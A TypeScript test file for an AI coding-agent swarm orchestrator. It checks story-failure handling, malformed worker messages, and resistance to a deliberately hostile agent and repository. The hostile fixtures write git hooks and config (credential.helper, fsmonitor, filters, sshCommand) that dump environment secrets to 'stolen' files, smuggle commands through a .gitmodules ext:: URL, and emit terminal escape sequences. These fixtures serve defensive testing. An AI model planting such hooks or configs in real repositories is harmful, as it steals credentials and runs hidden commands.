import { afterAll, beforeAll, expect, test } from "vitest";
import { storyJson } from "../../../src/core/swarm/testing/task-file-text.ts";
import { onTerminal } from "../../e2e/terminal.ts";
import { makeWorkerImage } from "../workers-bed.ts";
import { expectNoSecrets } from "./expect-no-secrets.ts";
import { RealSwarm, twoStories } from "./real-swarm.ts";
import { shellWorker } from "./shell-worker.ts";

let made: Awaited<ReturnType<typeof makeWorkerImage>>;
beforeAll(async () => {
  made = await makeWorkerImage();
});
afterAll(async () => {
  await made?.[Symbol.asyncDispose]();
});

const AGENT = ["--agent", "command", "--", "sh", "/workspace/agent.sh"];

test("a story that fails skips what needs it, the rest is done, and all of it is told", async () => {
  const FAILING = `case "$(cat)" in *"US-001: "*) echo "no such table"; exit 1 ;; esac; echo ok > ok.txt; echo fine`;
  await using swarm = await RealSwarm.make({
    tasks: { cart: [...twoStories(), storyJson("US-003", { dependsOn: ["US-002"] }), storyJson("US-004")] },
    files: { "agent.sh": FAILING },
  });
  const { code, stdout, stderr } = await swarm.aido("swarm", "--all", ...swarm.options, ...AGENT);
  expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
  const said = stdout.split("\n").map((line) => line.replace(/^\S+ +\| /, ""));
  expect(said.filter((line) => line.startsWith("US-"))).toEqual([
    "US-001 in progress: Story US-001",
    "US-001 failed: Story US-001 (The agent ended with code 1)",
    "US-002 skipped: Story US-002 (Skipped: depends on failed story US-001)",
    "US-003 skipped: Story US-003 (Skipped: depends on failed story US-001)",
    "US-004 in progress: Story US-004",
    "US-004 completed: Story US-004 (fine)",
  ]);
  expect(swarm.entry("cart")).toMatchObject({
    status: "completed",
    storyProgress: { total: 4, completed: 1, failed: 1, inProgress: 0, pending: 0 },
  });
  expect(swarm.subjects("cart")).toEqual(["US-001 (failed): Story US-001", "US-004: Story US-004"]);
  const stories = { "US-001": "failed", "US-002": "skipped", "US-003": "skipped", "US-004": "completed" };
  expect(swarm.storiesAtOrigin("cart")).toEqual(stories);
});

/** As bad as an agent or a repository can be: programs for git to run, names and words for a terminal to obey. */
const HOSTILE_AGENT = String.raw`
orders=$(cat)
mkdir -p .git/hooks
for hook in pre-commit post-commit pre-push reference-transaction post-checkout; do
  printf '#!/bin/sh\nenv > /workspace/stolen-%s\n' "$hook" > ".git/hooks/$hook"; chmod +x ".git/hooks/$hook"
done
git config core.fsmonitor 'env > /workspace/stolen-fsmonitor; true'
git config core.sshCommand 'env > /workspace/stolen-ssh; true'
git config credential.helper '!env > /workspace/stolen-credential; true'
git config filter.evil.clean 'env > /workspace/stolen-clean; cat'
git config filter.evil.process 'env > /workspace/stolen-process'
git config url.https://203.0.113.1/.insteadOf https://
echo '*.txt filter=evil' > .gitattributes
case "$orders" in *"US-001: "*) story=1 ;; *) story=2 ;; esac
echo $story > $story.txt
name=$(printf 'new\nline\033]0;pwned\007\033[31;7mred')
echo x > "$name"
printf 'said \033]0;pwned\007\033[31;7mred\033P1pwned\033\\ \302\2332J \r\b\b over\n'
printf 'log \033]0;pwned\007\033[31;7mred\n' >&2
`;

const ODD_NAME = "new\nline\u001b]0;pwned\u0007\u001b[31;7mred";
const MODULES = `[submodule "sub"]
	path = sub
	url = "ext::sh -c touch% /workspace/stolen-submodule"
	update = !touch /workspace/stolen-update
`;

test("a hostile repository and agent get nothing run with a token, and no terminal sees what they wrote for it", async () => {
  await using swarm = await RealSwarm.make({
    tasks: { cart: twoStories(), login: twoStories() },
    files: { "agent.sh": HOSTILE_AGENT, ".gitmodules": MODULES },
  });
  const { git } = swarm;
  git.inWorkers("update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},sub`);
  git.inWorkers("commit", "--quiet", "-m", "sub");
  git.inWorkers("push", "--quiet", "origin", "HEAD:main");
  const place = { globals: [], directory: git.project };
  const env = { ...swarm.env, TERM: "xterm-256color", LC_ALL: "C.UTF-8" };
  const board = await onTerminal(place, ["swarm", "--all", ...swarm.options, ...AGENT], [], env);
  const logs = await onTerminal(place, ["swarm", "logs", "cart"], [], env);
  expect([board.code, logs.code]).toEqual([0, 0]);
  for (const { output } of [board, logs]) {
    expect(output).toContain("said");
    expect(output).toContain("pwned");
    for (const order of ["\u001b]", "\u001bP", "\u001b[31;7m", "\u009b", "\u0007", "\b"])
      expect(output.includes(order), JSON.stringify(order)).toBe(false);
  }
  for (const name of ["cart", "login"]) {
    const files = git.git(git.origin, "ls-tree", "-r", "-z", "--name-only", `feat/${name}`).split("\0");
    expect(files).toEqual(expect.arrayContaining(["1.txt", "2.txt", "sub", ODD_NAME]));
    expect(files.filter((file) => file.includes("stolen"))).toEqual([]);
    expect(swarm.subjects(name)).toEqual(["US-001: Story US-001", "US-002: Story US-002"]);
  }
  await expectNoSecrets(swarm, board.output + logs.output);
});

const WORKERS = `case "$AIMI_BRANCH" in
  feat/big) head -c 70000 /dev/zero | tr '\\0' a; echo; sleep 600 ;;
  feat/endless) yes | tr -d '\\n' ;;
  feat/broken) echo '{"type":'; sleep 600 ;;
  feat/wrong) say progress-update '{"storyId":"../../x","status":"done","output":1}'; sleep 600 ;;
  feat/silent) sleep 600 ;;
  feat/mute) exit 0 ;;
  feat/good) story US-001 in_progress; story US-001 completed; done_ ;;
esac`;
const REASONS = {
  big: "Invalid swarm message - (line) has more than 65536 bytes",
  endless: "Invalid swarm message - (line) has more than 65536 bytes",
  broken: "Invalid swarm message - (line) is not JSON in UTF-8",
  wrong: "Invalid swarm message - payload.storyId is not of the form US-001",
  silent: "It said nothing for 4 s",
  mute: "It ended without a last message: exit code 0",
};

test("S1-30 S1-71 workers that break the rules or say nothing have failed with a reason, and others are not disturbed", async () => {
  const bad = Object.keys(REASONS);
  await using swarm = await RealSwarm.make({
    tasks: Object.fromEntries([...bad, "good"].map((name) => [name, [storyJson("US-001")]])),
    image: made.image,
    ...shellWorker(WORKERS),
  });
  const limits = ["--max", "7", "--max-silence", "4s"];
  const { code, stdout, stderr } = await swarm.aido("swarm", "--all", ...swarm.options, ...limits);
  expect([code, swarm.statuses(...bad)]).toEqual([1, bad.map(() => "failed")]);
  expect(swarm.statuses("good")).toEqual(["completed"]);
  expect(stderr).toContain("6 of 7 not completed");
  for (const [name, reason] of Object.entries(REASONS)) {
    const lines = stdout.split("\n").filter((line) => line.startsWith(`${name}-`));
    expect(lines.map((line) => line.replace(/^\S+ +\| /, "")).at(-1)).toContain(`failed: ${reason}, `);
  }
});
